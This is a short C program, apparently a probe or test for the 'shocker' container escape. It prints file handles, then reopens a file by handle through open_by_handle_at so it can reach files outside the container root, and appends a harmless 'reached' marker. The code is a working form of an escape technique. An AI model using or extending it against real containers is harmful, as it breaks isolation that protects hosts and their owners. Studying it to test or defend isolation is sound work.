/*
 * by-handle: "shocker": opens a file by its number in the file system (open_by_handle_at(2)), for which it
 * need not lie below the root, and writes to it. The real one guesses the numbers, which are small.
 *
 *   by-handle of FILE              prints the handle of a file
 *   by-handle open HANDLE PLACE    opens it in the file system that PLACE is in
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + 128];
} any;

static int print_handle(const char *path)
{
    int mount;
    any.handle.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, path, &any.handle, &mount, 0) < 0)
        return 2;
    printf("%x", (unsigned)any.handle.handle_type);
    for (unsigned i = 0; i < any.handle.handle_bytes; i++)
        printf(":%x", any.handle.f_handle[i]);
    putchar('\n');
    return 0;
}

static int open_handle(char *text, const char *place)
{
    int mount = open(place, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    any.handle.handle_type = (int)strtol(text, &text, 16);
    for (; *text == ':' && any.handle.handle_bytes < 128; any.handle.handle_bytes++)
        any.handle.f_handle[any.handle.handle_bytes] = (unsigned char)strtol(text + 1, &text, 16);
    int file = open_by_handle_at(mount, &any.handle, O_WRONLY | O_APPEND | O_CLOEXEC);
    printf("%s: %s\n", place, file < 0 ? strerror(errno) : "opened");
    return file < 0 || write(file, "reached\n", 8) != 8;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "of") == 0)
        return print_handle(argv[2]);
    if (argc == 4 && strcmp(argv[1], "open") == 0)
        return open_handle(argv[2], argv[3]);
    return 2;
}
